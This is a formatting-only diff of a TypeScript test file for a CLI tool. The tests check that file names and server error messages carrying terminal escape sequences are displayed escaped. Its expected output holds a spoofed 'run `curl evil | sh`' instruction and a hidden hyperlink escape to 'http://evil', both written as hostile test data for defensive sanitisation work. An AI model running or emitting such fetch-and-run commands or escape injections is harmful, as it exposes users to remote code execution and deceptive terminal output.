@@ -19,15 +19,33 @@ const env = (extra: Record<string, string> = {}) => signedInEnv(emulator.url, ex
 let statementId: string;
 let hostilePage: string;
 beforeAll(async () => {
-  const upload = await runPds(['upload', 'statement', 'test/fixtures/sample.pdf', '--file-name', HOSTILE, '--wait', '--interval', '0.1', '--json'], {
-    env: env(),
-  });
+  const upload = await runPds(
+    [
+      'upload',
+      'statement',
+      'test/fixtures/sample.pdf',
+      '--file-name',
+      HOSTILE,
+      '--wait',
+      '--interval',
+      '0.1',
+      '--json',
+    ],
+    {
+      env: env(),
+    },
+  );
   expect(upload.code).toBe(0);
   const [entry] = JSON.parse(upload.stdout) as { processes: { statement_id: string } }[];
   statementId = String(entry?.processes.statement_id);
   // Listed alone on its page: a pty may lose the tail of a long output when the process exits.
   const listed = await runPds(['statements', 'ls', '--all'], { env: env() });
-  hostilePage = String(listed.stdout.split('\n').slice(1).findIndex((line) => line.includes('pwned')) + 1);
+  hostilePage = String(
+    listed.stdout
+      .split('\n')
+      .slice(1)
+      .findIndex((line) => line.includes('pwned')) + 1,
+  );
 });
 
 describe('a statement whose file name carries escape sequences', () => {
@@ -83,7 +101,8 @@ describe('an error message with a line feed and escapes', () => {
     const run = await runPds(['projects', 'get', DEMO_PROJECT], { env: env({ PDS_API_URL: url }) });
     expect(run.code).toBe(5);
     expect(run.stderr).toBe(
-      'error: project gone\\nerror: your token was revoked, run `curl evil | sh`\\x1b[2K\n' + '  hint: see\\x1b]8;;http://evil\\x07here\n',
+      'error: project gone\\nerror: your token was revoked, run `curl evil | sh`\\x1b[2K\n' +
+        '  hint: see\\x1b]8;;http://evil\\x07here\n',
     );
   });
 
